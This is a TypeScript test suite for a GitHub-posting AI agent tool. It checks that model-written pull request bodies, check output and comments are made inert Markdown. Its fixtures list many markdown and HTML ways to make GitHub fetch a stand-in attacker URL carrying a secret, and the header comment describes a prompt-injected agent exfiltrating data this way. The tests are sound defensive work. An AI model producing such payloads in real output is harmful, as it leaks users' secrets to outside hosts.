// Model text that reaches GitHub is inert (src/report/inert-markdown.ts): a prompt-injected agent
// cannot send data out through an image GitHub fetches on render, or a link it made, while links
// the repository already holds stay links.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Octokit } from '@octokit/core';
import nock from 'nock';
import { GitHubRunReport } from '../src/github/run-report.ts';
import { inertMarkdown } from '../src/report/inert-markdown.ts';
import { tableCell } from '../src/report/markdown.ts';
import { startFakeAnthropic, text, toolUse } from './support/fake-anthropic.ts';
import { onlyNockAndLoopback, pullRequestEnv } from './support/pull-request-api.ts';
import { runScript } from './support/service.ts';

const API = 'https://api.github.test';
const KEPT = 'https://docs.example.com/guide';
const EXFIL = 'https://attacker.example/?d=SECRET';

/** Every way found to make GitHub fetch a URL or link one, in the model's answer. */
const HOSTILE = [
  `Updated the guide; see [the guide](${KEPT}).`,
  `![status](${EXFIL}) <img src="${EXFIL}"> <picture><source srcset="${EXFIL}"></picture>`,
  `![ref][r] and [click][r] and ![r]`,
  '',
  `[r]: ${EXFIL}`,
  '',
  `Autolinked: ${EXFIL} <${EXFIL}> www.attacker.example/x leak@attacker.example`,
  `Entities: ![e](&#104;ttps://attacker.example/e) and escapes ![b](https\\://attacker.example/b)`,
  '| table | `x | ![t](https://attacker.example/t) | y` |',
  '',
  '```js',
  '// code is shown as written',
  `const url = "${EXFIL}";`,
  '```',
].join('\n');

/** Whether `markdown` still holds a way to reach attacker.example that GitHub would render. */
function reachable(markdown: string): string[] {
  // Remove what renders as code: fenced blocks and code spans (their fences are balanced here).
  const outsideCode = markdown
    // Escaped backslashes, then escaped backticks: neither opens code.
    .replace(/\\\\/g, '')
    .replace(/\\`/g, '')
    .replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '')
    // A code span closes only on a run of exactly its opening's length.
    .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
  const problems: string[] = [];
  if (/(?<!\\)<(?:img|picture|source|a)\b/i.test(outsideCode)) problems.push('raw HTML');
  if (/(?<!\\)\]\(\s*<?(?:https?:)?\/\/attacker/i.test(outsideCode)) problems.push('inline link or image');
  if (/^\s{0,3}(?<!\\)\[[^\]]+\]:/m.test(outsideCode)) problems.push('reference definition');
  if (/(?:https?:\/\/|www\.)attacker|@attacker/i.test(outsideCode)) problems.push('autolink');
  if (/(?<!\\)<https?:/i.test(outsideCode)) problems.push('angle autolink');
  return problems;
}

const fake = await startFakeAnthropic({
  handler: (req) => {
    if (req.turn === 0) return [toolUse('edit_file', { path: 'README.md', old_string: 'Greeter.', new_string: 'Greeter, documented.' })];
    return [text(HOSTILE)];
  },
});
onlyNockAndLoopback(() => fake.close());

test('a pull request body written by a hostile model reaches GitHub with no image or link it made, and the repository\'s own link kept', async () => {
  const { env, scope, opened } = pullRequestEnv(fake.url, { api: API, owner: 'acme', repo: 'greeter', number: 3 });
  // The script passes the model's answer on as the pull request's description, as fix() does.
  const out = await runScript(
    "const c = await change('document the greeter'); const g = await gate(c); return (await propose(c, { title: 'Document the greeter', body: c.result })).pr",
    env,
    {
      files: {
        'package.json': JSON.stringify({ name: 'greeter', type: 'module', scripts: { test: 'node --test' } }),
        'README.md': `# Greeter.\n\nRead ${KEPT} first.\n`,
        'greet.test.js': "import { test } from 'node:test'\ntest('ok', () => {})\n",
      },
    },
  );
  assert.equal(out.status, 'completed', out.error ?? '');
  assert.ok(scope.isDone(), 'one pull request');
  const body = opened()!.body;
  assert.deepEqual(reachable(body), [], body);
  assert.ok(body.includes(`[the guide](${KEPT})`), 'the link the repository already had is still a link');
  assert.ok(body.includes(`\`${EXFIL}\``), 'the exfiltration URL is shown, as code');
  assert.ok(body.includes(`const url = "${EXFIL}";`), 'fenced code is shown as written');
});

test('check output and the progress comment get findings, labels and errors inert', async () => {
  const bodies: any[] = [];
  let next = 1;
  const record = (status: number) => async (req: Request) => {
    const text = await req.text();
    bodies.push(text ? JSON.parse(text) : {});
    const id = next++;
    return { id, html_url: `https://github.test/c/${id}` };
  };
  nock(API).persist().post(/.*/).reply(201, record(201)).patch(/.*/).reply(200, record(200));
  const report = new GitHubRunReport(
    { octokit: new Octokit({ auth: 't', baseUrl: API }), owner: 'acme', repo: 'greeter', headSha: 'a'.repeat(40), issueNumber: 1, progressCommentId: null, workflow: 'audit', trigger: '`/workflow audit` by @octocat', version: 'test' },
    { intervalMs: 0 },
  );
  try {
    await report.started('r1');
    const phase = `Map ![p](${EXFIL})`;
    report.listener({ type: 'phase', title: phase } as never);
    report.listener({ type: 'agent-queued', phase, label: `scan ![l](${EXFIL})` } as never);
    report.listener({ type: 'agent-finished', phase, label: `scan ![l](${EXFIL})`, status: 'failed', error: `died <img src="${EXFIL}">`, usage: { input: 1, output: 1, cacheRead: 0, cacheWrite: 0 }, costUsd: 0, elapsedMs: 1 } as never);
    const finding = { file: 'a`![f](https://attacker.example/f)`.ts', line: 1, title: `SQL injection ![t](${EXFIL})` };
    await report.finish({ runId: 'r1', status: 'completed', result: { findings: [finding] }, summary: { phases: [], agents: 1, usage: { input: 1, output: 1, cacheRead: 0, cacheWrite: 0 }, costUsd: 0, elapsedMs: 1, refused: 0 } } as never);
  } finally {
    nock.cleanAll();
  }
  const texts = bodies.flatMap((body) => [body.body, body.output?.summary, body.output?.text].filter((t): t is string => typeof t === 'string'));
  assert.ok(texts.some((t) => t.includes('attacker.example')), 'the hostile text was shown');
  for (const t of texts) assert.deepEqual(reachable(t), [], t);
});

test('inert text: code stays as written, punctuation renders the same, kept and relative links stay, size is capped at a line', () => {
  const keep = new Set([KEPT]);
  assert.equal(inertMarkdown('Use `Map<string, number>` and ``a`b``.'), 'Use `Map<string, number>` and ``a`b``.');
  assert.equal(inertMarkdown('a < b & [c]'), 'a \\< b \\& \\[c\\]');
  assert.equal(inertMarkdown('- [x] done\n- [ ] todo'), '- [x] done\n- [ ] todo');
  assert.equal(inertMarkdown(`[guide](${KEPT}) ${KEPT}`, { keep }), `[guide](${KEPT}) <${KEPT}>`);
  assert.equal(inertMarkdown('![logo](docs/logo.png) [a](src/a.ts)'), '![logo](docs/logo.png) [a](src/a.ts)');
  assert.equal(inertMarkdown(`![x](//attacker.example/x)`), '!\\[x\\](//attacker.example/x)');
  // An unclosed fence would swallow whatever follows the text (Foreman's report): it is closed.
  assert.equal(inertMarkdown('```\nopen'), '```\nopen\n```');
  // Text that continues a line (`could not start x: <reason>`) cannot open a fence on its first line.
  const reason = inertMarkdown(`\`\`\`\n![x](${EXFIL})\n\`\`\`\``, { midLine: true });
  assert.deepEqual(reachable(`Foreman could not start \`x\`: ${reason}`), [], reason);
  const capped = inertMarkdown(`${'line\n'.repeat(50)}![x](${EXFIL})`, { maxChars: 100 });
  assert.ok(capped.length <= 100 && capped.endsWith('line'), capped);
  assert.equal(tableCell(`a | ![x](${EXFIL})`), `a \\| !\\[x\\](\`${EXFIL}\`)`);
});

test('making hostile text inert is linear: 65 k characters of nested brackets, backticks and tags take milliseconds', () => {
  const shapes = ['[a](b', '![', '`a', '<a hidden ', `${EXFIL} `, '[^', '\\'];
  for (const shape of shapes) {
    const hostile = shape.repeat(Math.ceil(65_536 / shape.length));
    const started = performance.now();
    inertMarkdown(hostile, { maxChars: 65_536 });
    inertMarkdown(hostile, { inline: true });
    const ms = performance.now() - started;
    assert.ok(ms < 1_000, `${JSON.stringify(shape)} × ${hostile.length / shape.length}: ${ms.toFixed(0)} ms`);
  }
});
